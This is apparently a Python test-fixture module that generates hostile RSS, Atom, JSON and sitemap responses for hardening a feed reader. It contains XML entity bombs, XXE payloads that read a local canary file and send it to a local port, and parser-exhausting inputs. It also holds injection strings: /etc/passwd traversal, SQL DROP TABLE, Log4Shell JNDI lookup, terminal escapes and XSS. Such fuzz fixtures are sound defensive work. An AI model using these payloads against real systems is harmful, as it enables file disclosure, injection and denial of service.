"""What a hostile document may say: a raw answer for each attack, or a talk that never ends well.

Everything in it is made up here, after what is known to have brought readers of feeds down.
"""

import asyncio
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from html import escape

Talk = Callable[[asyncio.StreamWriter], Awaitable[None]]
Answer = bytes | Talk

MIB = 1 << 20
RSS = "application/rss+xml"
ITEMS = "<item><title>{0}</title><guid>{0}</guid><description>{0}</description></item>"


@dataclass(frozen=True)
class Canaries:
    """What must not be touched: a file that must not be read, a port that must not be asked.

    `base` is the attacker's own address.
    """

    file: str
    port: int
    base: str


def reply(body: bytes, kind: str = RSS, status: str = "200 OK", *lines: str) -> bytes:
    """Return a whole answer."""
    said = "".join(f"{line}\r\n" for line in lines)
    head = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\n{said}Content-Length: {len(body)}"
    return head.encode("latin-1") + b"\r\n\r\n" + body


def rss(items: str, prolog: str = "", channel: str = "") -> bytes:
    """Return a feed with these items."""
    return (
        f"<?xml version='1.0'?>{prolog}<rss version='2.0'><channel><title>Hostile</title>"
        f"<link>https://hostile.example/</link><description/>{channel}{items}</channel></rss>"
    ).encode()


def item(title: str, link: str = "", guid: str = "", body: str = "") -> str:
    """Return an item; what it says is escaped."""
    return (
        f"<item><title>{escape(title)}</title><link>{escape(link)}</link>"
        f"<guid isPermaLink='false'>{escape(guid or title)}</guid>"
        f"<description>{escape(body or title)}</description></item>"
    )


def endless(piece: bytes, times: int, pause: float = 0, head: bytes = b"") -> Talk:
    """Return a talk that says the same again and again."""
    begin = head or b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n\r\n"

    async def talk(writer: asyncio.StreamWriter) -> None:
        writer.write(begin)
        for _ in range(times):
            writer.write(piece)
            await writer.drain()
            await asyncio.sleep(pause)

    return talk


def documents(canaries: Canaries) -> Iterator[tuple[str, Answer]]:
    """Yield documents that are hard on parsers."""
    laughs = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    entities = {
        "xml-laughs": f"<!DOCTYPE r [<!ENTITY l0 'ha'>{laughs}]>",
        "xml-quadratic-entity": f"<!DOCTYPE r [<!ENTITY l9 '{'a' * 100_000}'>]>",
        "xml-file": f"<!DOCTYPE r [<!ENTITY l9 SYSTEM 'file://{canaries.file}'>]>",
        "xml-http": f"<!DOCTYPE r [<!ENTITY l9 SYSTEM 'http://127.0.0.1:{canaries.port}/x'>]>",
        "xml-dtd": f"<!DOCTYPE r SYSTEM 'http://127.0.0.1:{canaries.port}/dtd'>",
        "xml-parameter": f"<!DOCTYPE r [<!ENTITY % p SYSTEM 'file://{canaries.file}'> %p;"
        f" <!ENTITY % q '<!ENTITY l9 SYSTEM \"http://127.0.0.1:{canaries.port}/?%p;\">'> %q;]>",
        "xml-recursive": "<!DOCTYPE r [<!ENTITY l9 '&l8;'><!ENTITY l8 '&l9;'>]>",
    }
    for name, prolog in entities.items():
        times = 1000 if name == "xml-quadratic-entity" else 1
        yield name, reply(rss(f"<item><title>{'&l9;' * times}</title></item>", prolog))
    include = f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{canaries.file}'/>"
    yield "xinclude", reply(rss(f"<item><title>{include}</title></item>"))
    style = f"<?xml-stylesheet href='http://127.0.0.1:{canaries.port}/s.xsl'?>"
    yield "stylesheet", reply(rss(ITEMS.format("a"), style))
    for name, text in {
        "comments": "<!--" * 100_000,
        "comments-open": "<!-" * 300_000,
        "cdata": "<![CDATA[" * 100_000,
        "tags-open": "<a" * 300_000,
        "tags-deep": "<a>" * 200_000,
        "divs-deep": escape("<div>" * 200_000),
        "quotes-open": "<a b='" * 100_000,
        "ampersands": "&" * 500_000,
        "entities-numeric": "&#x41;" * 300_000,
        "entities-beyond": "&#x110000;&#xD800;&#0;" * 50_000,
        "doctypes": "<!DOCTYPE " * 100_000,
        "instructions": "<?x " * 100_000,
        "attributes": "<a " + " ".join(f"a{n}='{n}'" for n in range(100_000)) + "/>",
        "attribute-long": f"<a b='{'x' * 5_000_000}'/>",
        "namespaces": "<a " + " ".join(f"xmlns:n{n}='u{n}'" for n in range(50_000)) + "/>",
        "tables-deep": escape("<table><tr><td>" * 20_000),
        "formats-open": escape("<b><i><u><a href=x>" * 20_000),
        "spaces": " \n" * 3_000_000,
        "zeros": "\0" * 3_000_000,
        "line": "x" * 9_900_000,
    }.items():
        yield f"rss-{name}", reply(rss(f"<item><description>{text}</description></item>"))
        yield f"bare-{name}", reply(text[:2_000_000].encode(), "text/html")
    yield "items-many", reply(rss("".join(ITEMS.format(n) for n in range(60_000))))
    yield "guids-same", reply(rss(ITEMS.format("a") * 60_000))
    yield (
        "categories-many",
        reply(rss(f"<item><title>c</title>{'<category>x</category>' * 200_000}</item>")),
    )
    yield "line-100-mb", endless(b"x" * MIB, 100)
    yield (
        "sitemap-bomb",
        reply(
            f"<sitemapindex>{'<sitemap><loc>http://127.0.0.1/</loc></sitemap>' * 50_000}"
            "</sitemapindex>".encode(),
            "text/xml",
        ),
    )
    yield (
        "urlset-bomb",
        reply(
            f"<urlset>{'<url><loc>https://a.example/</loc></url>' * 100_000}</urlset>".encode(),
            "text/xml",
        ),
    )
    yield "opml", reply(f"<opml><body>{'<outline>' * 100_000}".encode(), "text/xml")
    yield (
        "json-deep",
        reply(
            b'{"version":"https://jsonfeed.org/version/1.1","items":' + b"[" * 200_000,
            "application/feed+json",
        ),
    )
    yield (
        "json-number",
        reply(
            b'{"version":"https://jsonfeed.org/version/1.1","items":[{"id":'
            + b"9" * 1_000_000
            + b"}]}",
            "application/feed+json",
        ),
    )
    yield (
        "json-surrogate",
        reply(
            rb'{"version":"https://jsonfeed.org/version/1.1","title":"\ud800","items":[{"id":"\udfff","title":"\ud83d"}]}',
            "application/feed+json",
        ),
    )
    for charset in (
        "utf-7",
        "utf-32",
        "rot13",
        "hex",
        "zlib",
        "idna",
        "x" * 9999,
        "unicode_escape",
    ):
        yield f"charset-{charset[:14]}", reply(rss(ITEMS.format("a")), f"{RSS}; charset={charset}")
    yield "utf-16-torn", reply(rss(ITEMS.format("a")).decode().encode("utf-16")[:-1])
    yield "bytes", reply(bytes(range(256)) * 4000, "application/octet-stream")
    yield (
        "dates",
        reply(
            rss(
                "".join(
                    f"<item><title>d{n}</title><pubDate>{date}</pubDate></item>"
                    for n, date in enumerate(
                        (
                            "99999-01-01",
                            "0000-00-00",
                            "Mon, 31 Feb 2026 25:61:61 +9999",
                            "1" * 5000,
                            "-1",
                            "1e400",
                            "2026-01-01T00:00:00+99:99",
                        )
                    )
                )
            )
        ),
    )


def texts(canaries: Canaries) -> Iterator[tuple[str, Answer]]:
    """Yield words that are meant to be more than words."""
    said = {
        "path": "../../../../etc/passwd",
        "path-nul": "..\\..\\\x01",
        "sql": "'); DROP TABLE entry; --",
        "format": "%s%n{0.__class__.__mro__}{{7*7}}${jndi:ldap://127.0.0.1/}",
        "terminal": "&#27;]0;owned&#7;&#27;[2J&#x9b;31m",
        "bidi": "\u202egnp.exe\u202c \u2066\u2069\u200f",
        "lines": "one\r\ntwo: three\u2028four\u2029five\x85six",
        "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "cdata": "]]>]]&gt;<![CDATA[",
        "long": "A" * 3_000_000,
        "combining": "a" + "\u0300" * 200_000,
        "emoji": "\U0001f468\u200d" * 100_000,
        "ours": f"{canaries.base}/feeds/all.atom",
    }
    for name, text in said.items():
        words = escape(text) if "&#" not in text else text
        words = "".join(letter for letter in words if letter >= " " or letter in "\r\n")
        yield (
            f"text-{name}",
            reply(
                rss(
                    f"<item><title>{words}</title><guid isPermaLink='false'>{words}</guid>"
                    f"<author>{words}</author><category>../{words}</category>"
                    f"<source url='{canaries.base}'>{words}</source>"
                    f"<description>{words}</description></item>",
                    channel=f"<title>{words}</title><language>{words[:99]}</language>",
                )
            ),
        )
    for number in range(3):
        yield f"guid-stolen-{number}", reply(rss(item(f"Stolen {number}", guid="neighbour-1")))
